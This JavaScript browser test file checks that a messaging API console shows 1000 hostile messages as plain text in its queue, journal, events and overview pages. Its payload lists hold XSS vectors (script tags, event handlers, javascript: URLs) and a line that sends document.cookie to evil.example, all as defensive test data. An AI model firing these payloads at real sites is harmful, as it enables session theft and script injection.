// A thousand ways to smuggle markup, as messages of strangers and of clients: each is
// read in each list as it was written, nothing of it becomes an element, runs, or
// fetches anything.
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { browser, contexts, until, watched, wide } from './stage.mjs'

const actions = ['alert(1)', 'top.pwned=1', 'import("//evil.example/x.js")', 'fetch("//evil.example/"+document.cookie)', 'eval(atob("YWxlcnQoMSk="))']
const carriers = [
  (a) => `<script>${a}</script>`, (a) => `<img src=x onerror='${a}'>`, (a) => `<svg/onload='${a}'>`, (a) => `<svg><animate onbegin='${a}' attributeName=x dur=1s>`,
  (a) => `<iframe srcdoc="<script>${a}</script>"></iframe>`, (a) => `<iframe src='javascript:${a}'>`, (a) => `<body onpageshow='${a}'>`, (a) => `<details open ontoggle='${a}'>`,
  (a) => `<input autofocus onfocus='${a}'>`, (a) => `<video><source onerror='${a}'></video>`, (a) => `<math><mtext><style><img src onerror='${a}'></style></mtext></math>`,
  (a) => `<object data='javascript:${a}'>`, (a) => `<embed src='//evil.example/x.swf' onload='${a}'>`, (a) => `<form action='javascript:${a}'><button autofocus>x</button></form>`,
  (a) => `<a href='javascript:${a}'>x</a>`, (a) => `javascript:${a}`, (a) => `<link rel=stylesheet href='//evil.example/x.css' onload='${a}'>`,
  (a) => `<meta http-equiv=refresh content="0;url=javascript:${a}">`, (a) => `<base href="//evil.example/"><script>${a}</script>`, (a) => `<style>@import '//evil.example/x.css';</style>${a}`,
]
const wrappings = [
  (s) => s, (s) => `">${s}`, (s) => `'>${s}`, (s) => `</textarea></title></style></script>${s}`, (s) => `<!--><!--${s}-->`, (s) => s.toUpperCase().replace(/[A-Z]/g, (c, i) => i % 2 ? c : c.toLowerCase()),
  (s) => s.replace(/[<>"']/g, (c) => `&#${c.charCodeAt(0)};`), (s) => encodeURIComponent(s), (s) => s.replaceAll('<', '<\u2028').replaceAll(' ', '\f'), (s) => `\${{{\u202e${s}}}}`,
]
const payloads = wrappings.flatMap((wrap) => carriers.flatMap((carry) => actions.map((action) => wrap(carry(action))))).map((s, n) => `${s} ${n}`)

let g, b, page, trouble, id, token
before(async () => {
  g = await wide()
  b = await browser()
  ;({ page, trouble } = await watched(await b.newContext(contexts.light), g.apiUrl))
  await page.goto(g.consoleUrl)
  await page.locator('h1').waitFor()
  ;({ idInstance: id, apiTokenInstance: token } = await g.login({ name: payloads[5], settings: { incomingWebhook: 'yes' } }))
  await g.v1('POST', `/v1/instances/${id}/queue/pause`)
})
after(async () => {
  await b?.close()
  await g?.end()
})

// harmless wants that all of them are among the texts, and that the page has only what
// the console draws.
async function harmless(view, texts) {
  const seen = new Set(texts.map((t) => t.trim()))
  assert.deepEqual(payloads.filter((p) => !seen.has(p.trim())).slice(0, 3), [], `${view} shows something else`)
  assert.deepEqual(await page.evaluate(() => [...document.querySelectorAll('main *')]
    .filter((e) => e.matches('script, iframe, object, embed, base, meta, link, style, form, img, video, audio, math, animate, a[href^="javascript:" i]') || [...e.attributes].some((a) => a.name.startsWith('on')))
    .map((e) => e.outerHTML.slice(0, 200))), [], `${view} has elements that nobody drew`)
  assert.equal(await page.evaluate(() => window.pwned), undefined)
  assert.deepEqual(trouble, [], view)
}

const many = async (one) => { for (let n = 0; n < payloads.length; n += 50) await Promise.all(payloads.slice(n, n + 50).map(one)) }

test('a thousand hostile messages in the queue', async () => {
  assert.equal(new Set(payloads).size, 1000)
  await many((message) => g.v1('POST', `/waInstance${id}/sendMessage/${token}`, { chatId: '10000000', message }))
  await page.goto(`${g.apiUrl}/console/instances/${id}/queue`)
  await page.locator('.row').first().waitFor()
  const texts = await page.evaluate(async (all) => { // only the rows in sight are drawn
    const list = document.querySelector('.list')
    const seen = new Set()
    for (let steps = 0; seen.size < all && steps < 2000; steps++) {
      for (const row of document.querySelectorAll('.row-text')) seen.add(row.textContent)
      list.scrollTop = list.scrollTop + list.clientHeight < list.scrollHeight - 2 ? list.scrollTop + list.clientHeight / 2 : 0
      await new Promise(requestAnimationFrame)
    }
    return [...seen]
  }, payloads.length)
  await harmless('the queue', texts)
})

test('a thousand hostile messages of strangers in the journal and among the events', async () => {
  await many((text) => g.control('write', { idInstance: id, from: '10000000', text }))
  await until('all of them have come in', async () => (await g.v1('GET', `/v1/instances/${id}`)).notifications.count >= payloads.length)
  await page.goto(`${g.apiUrl}/console/instances/${id}/journal`)
  await page.locator('.entry').first().waitFor()
  const older = page.getByRole('button', { name: 'Older' })
  while (await older.count()) {
    const had = await page.locator('.entry').count()
    await older.click()
    await until('more is shown', async () => await page.locator('.entry').count() > had || !await older.count())
  }
  await harmless('the journal', await page.locator('.entry.incoming .entry-text').allTextContents())
  await page.goto(`${g.apiUrl}/console/instances/${id}/events`)
  await page.locator('main h1').first().waitFor()
  await harmless('the events', payloads)
  await page.goto(`${g.apiUrl}/console/`)
  await page.locator('.instance-name', { hasText: payloads[5] }).waitFor()
  await harmless('the overview', payloads)
})
